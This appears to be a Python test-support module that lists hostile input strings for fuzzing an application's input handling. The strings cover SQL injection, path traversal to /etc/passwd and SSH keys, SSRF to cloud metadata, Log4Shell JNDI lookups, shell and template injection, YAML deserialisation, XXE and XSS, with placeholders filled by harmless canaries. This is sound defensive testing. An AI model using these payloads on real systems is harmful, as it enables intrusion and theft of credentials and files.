"""Texts that try to be more than text: what attackers put into every field they find.

``{address}``, ``{folder}`` and ``{table}`` in them stand for canaries of the test: an address that
nobody may connect to, a folder nobody may read or write, a table nobody may touch.
"""

from collections.abc import Mapping
from typing import Final

_SQL: Final = (
    "'; DROP TABLE {table}; --",
    "'); DELETE FROM {table}; --",
    "x' OR '1'='1",
    "\\'; UPDATE {table} SET touched = true; --",
    "$$; DROP TABLE {table}; $$",
    "' UNION SELECT pg_read_file('/etc/passwd') --",
    "'; COPY {table} TO PROGRAM 'touch {folder}/sql'; --",
    "' || pg_sleep(30) || '",
    "E'\\x27; DROP TABLE {table}; --'",
    "\u02bc; DROP TABLE {table}; --",
    "%(id)s",
    ":id",
    "$1",
    "/*",
    "\\",
)
_PATTERNS: Final = (
    "%",
    "_" * 60,
    "%_%_%_%_%_%_%_%_%_%_%_%_%_%",
    "\\%",
    "foo & | ! <->",
    "'a':*ABCD & !(b | ",
    "a <-> <99999999999> b",
    ":*",
    '"unclosed phrase',
    "-" * 60,
    "((((((((((a+)+)+)+)+)+)+)+)+)+)+$",
    "[[:alpha:]",
    "*?[!]",
)
_PATHS: Final = (
    "../../../../../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc/passwd",
    "....//....//etc/passwd",
    "..;/..;/etc/passwd",
    "\uff0e\uff0e\uff0fetc\uff0fpasswd",
    "\u2025/\u2025/etc/passwd",
    "{folder}/absolute",
    "../../../../../../../..{folder}/climbed",
    "file://{folder}/url",
    "/dev/stdin",
    "/proc/self/environ",
    "C:\\Windows\\System32\\config\\SAM",
    "C:relative",
    "\\\\{address}\\share\\x",
    "//{address}/share/x",
    "\\\\?\\C:\\x",
    "~/.ssh/id_rsa",
    ".",
    "..",
    "a/../../b",
    "CON",
    "nul.png",
    "picture.png:stream",
    "picture.png.",
    "picture.png [output]",
    "-rf",
)
_LINES: Final = (
    'x\n{"event": "forged", "level": "error"}',
    "x\nlevel=error event=forged",
    "x\r\nX-Forged: yes\r\n\r\nbody",
    "x\rforged",
    "\x1b[2J\x1b[1;1Hforged",
    "\x1b]0;forged\x07",
    "\x1b]8;;http://{address}/\x1b\\link\x1b]8;;\x1b\\",
    "\x9b31mforged\x9c",
    "\x08\x08\x08\x08forged",
    "x\x85forged",
    "x\u2028forged\u2029forged",
    "x\x0b\x0cforged",
    "\x00",
    "picture.png\x00.exe",
    "\x07\x7f",
)
_FORMATS: Final = (
    "%s%s%s%s%n%n%x%x",
    "%(password)s",
    "{0.__class__.__init__.__globals__}",
    "{self}",
    "{}",
    "{",
    "}}{{",
    "[bold red]markup[/]",
    "[/]",
    "[link=http://{address}/]x[/link]",
)
_UNICODE: Final = (
    "\u202egnp.exe",
    "\u2066\u2067\u2069",
    "\ufeffx",
    "\u200b\u200c\u200d",
    "e\u0301" * 20 + "\u0301" * 40,
    "\u0130\u0131\u1e9e\ufb03",
    "\U000e0041\U000e0042",
    "\ufffd\ufffe\uffff",
    "\U0010ffff",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467",
    "\u00a0",
    "\u3000",
)
_ADDRESSES: Final = (
    "http://{address}/",
    "http://{address}/latest/meta-data/",
    "http://169.254.169.254/latest/meta-data/",
    "http://[::ffff:169.254.169.254]/",
    "http://0x7f000001/",
    "http://2130706433/",
    "https://user:password@{address}/",
    "http:/\\{address}",
    "file:///etc/passwd",
    "gopher://{address}/_x",
    "ftp://{address}/x",
    "ldap://{address}/x",
    "dict://{address}/x",
    "data:text/html,<script>alert(1)</script>",
    "javascript:alert(1)",
    "jar:http://{address}!/x",
    "s3://bucket/key",
    "input://../../x",
    "input://",
    "unix:///var/run/docker.sock",
    "dns:///{address}",
)
_TEMPLATES: Final = (
    "${jndi:ldap://{address}/x}",
    "${PATH}",
    "$PATH",
    "%PATH%",
    "$(touch {folder}/command)",
    "`touch {folder}/backticks`",
    "; touch {folder}/semicolon;",
    "| touch {folder}/pipe",
    "&& touch {folder}/and",
    "\ntouch {folder}/line\n",
    "{{7*7}}",
    "{{config}}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{% include '/etc/passwd' %}",
    "__import__('os').system('touch {folder}/python')",
)
_BREAKING: Final = (
    '"',
    "'",
    '"}, {"status": "completed", "x": "',
    '{"a": 1e999}',
    '{"a": NaN}',
    '{"a": "\\ud800"}',
    '{"a": "\\u0000"}',
    '{"__proto__": {"admin": true}}',
    '{"a": 1, "a": 2}',
    "[" * 5_000,
    '{"1": {"class_type": "LoadImage", "inputs": {"image": "../../../etc/passwd"}}}',
    "null",
    "---\n- !!python/object/apply:os.system ['touch {folder}/yaml']",
    "*anchor",
    "&a [*a,*a,*a,*a]",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "</script><script>alert(1)</script>",
    "=HYPERLINK('http://{address}/')",
    "]]>",
    "\t",
    " ",
)
_LONG: Final = (
    "x" * 256,
    "\u00e4" * 20_001,
    "a " * 35_000,
    "x" * 300_000,
)

#: By what they try.
KINDS: Final[Mapping[str, tuple[str, ...]]] = {
    "SQL": _SQL,
    "search and pattern syntax": _PATTERNS,
    "paths": _PATHS,
    "lines and terminals": _LINES,
    "formats and markup": _FORMATS,
    "Unicode": _UNICODE,
    "addresses": _ADDRESSES,
    "templates and commands": _TEMPLATES,
    "breaking out of a syntax": _BREAKING,
    "length": _LONG,
}


def hostile_texts(
    *, address: str = "127.0.0.1:9", folder: str = "/nonexistent", table: str = "canary"
) -> list[str]:
    """All of them, the canaries put in."""
    return [
        text.replace("{address}", address).replace("{folder}", folder).replace("{table}", table)
        for texts in KINDS.values()
        for text in texts
    ]
